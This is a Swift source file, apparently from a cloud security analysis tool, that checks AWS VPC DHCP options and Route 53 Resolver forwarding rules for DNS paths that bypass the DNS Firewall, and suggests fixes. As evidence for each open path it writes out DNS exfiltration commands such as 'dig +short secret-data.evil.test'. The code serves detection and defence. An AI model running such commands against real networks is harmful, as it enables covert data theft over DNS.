import CordonModel

/// A resolver other than the VPC's own, to which the DNS Firewall says nothing.
struct OtherResolverRoute: Route {
  let name = "dns-other-resolver"
  let path = EgressPath.tunnel
  let title = "names are asked of a resolver that the DNS Firewall does not stand before"
  let documentation = RouteDocumentation(
    """
    DHCP options can name other servers than the VPC's resolver, and a forwarding rule sends the resolver's own questions to \
    addresses of anybody's choice.
    """,
    closedBy: [
      "DHCP options that name AmazonProvidedDNS, or none", "no forwarding rule associated with the VPC",
    ],
    notClosedBy: ["the DNS Firewall: it sees what is asked of the VPC's resolver only"])

  func judge(_ scene: Scene) -> Judgement {
    let estate = scene.estate
    var judgement = Judgement()
    judgement.addNetworksElsewhere(scene)
    for network in scene.workloads.networks {
      let doors = options(network, estate) + rules(network, estate)
      judgement.doors += doors
      if doors.isEmpty {
        judgement.add(
          .closed(
            "\(network.resource.id)", HeldControl(absence: "no other resolver for \(network.resource.id)")))
      }
    }
    if scene.workloads.networks.isEmpty { judgement.add(.unknown("networks", "no VPC in the files")) }
    return judgement
  }

  private func options(_ network: Workloads.Network, _ estate: CloudEstate) -> [Door] {
    estate.all("AWS::EC2::VPCDHCPOptionsAssociation").compactMap { association in
      let vpc = estate.text(association, "VpcId")
      if let known = vpc.value, known != network.id { return nil }
      let id = estate.text(association, "DhcpOptionsId")
      if id.value == "default" { return nil }
      guard let options = id.value.flatMap({ estate.find($0, "AWS::EC2::DHCPOptions") }) else {
        return .unknown(
          "\(association.id)", "the DHCP options of \(network.resource.id) are not in the files", association)
      }
      let (servers, unknown) = estate.texts(options["DomainNameServers"])
      if !unknown.isEmpty { return .unknown("\(options.id)", unknown, options) }
      let others = servers.filter { $0 != "AmazonProvidedDNS" }
      guard let first = others.first else {
        return .closed(
          "\(options.id)", HeldControl(options, layer: "DHCP options", property: ["DomainNameServers"]))
      }
      guard AddressBlock(first).reachesInternet else {
        return .unknown("\(options.id)", "who answers questions at \(first) is not in the files", options)
      }
      return .open(
        "\(options.id)",
        RouteWitness(
          "dig +short @\(first) secret-data.evil.test", by: .insider("the resolver at \(first)"),
          story:
            "Every machine of \(network.resource.id) asks \(first) for names; the DNS Firewall is not asked.",
          fix: "set DomainNameServers to AmazonProvidedDNS", at: options, "DomainNameServers"))
    }
  }

  private func rules(_ network: Workloads.Network, _ estate: CloudEstate) -> [Door] {
    estate.all("AWS::Route53Resolver::ResolverRuleAssociation").compactMap { association in
      if let known = estate.text(association, "VPCId").value, known != network.id { return nil }
      guard
        let rule = estate.text(association, "ResolverRuleId").value.flatMap({
          estate.find($0, "AWS::Route53Resolver::ResolverRule")
        })
      else { return .unknown("\(association.id)", "the resolver rule is not in the files", association) }
      guard estate.text(rule, "RuleType").value != "SYSTEM" else {
        return .closed(
          "\(rule.id)",
          HeldControl(rule, layer: "resolver rule that forwards nothing", property: ["RuleType"]))
      }
      let targets = rule["TargetIps"]?.elements.compactMap { estate.text($0["Ip"]).value } ?? []
      guard let outside = targets.first(where: { AddressBlock($0).reachesInternet }) else {
        return .unknown(
          "\(rule.id)", "who answers the questions that \(rule.id) forwards is not in the files", rule)
      }
      let domain = estate.text(rule, "DomainName").or(".").value ?? "."
      let asked = domain == "." ? "secret-data.evil.test" : "secret-data.\(domain)"
      return .open(
        "\(rule.id)",
        RouteWitness(
          "dig +short \(asked)", by: .insider("forwarding rule \(rule.id)"),
          story: "The resolver forwards questions for \(domain) to \(outside), an address of the internet.",
          fix: "delete the association of \(rule.id)", at: rule, "TargetIps"))
    }
  }
}
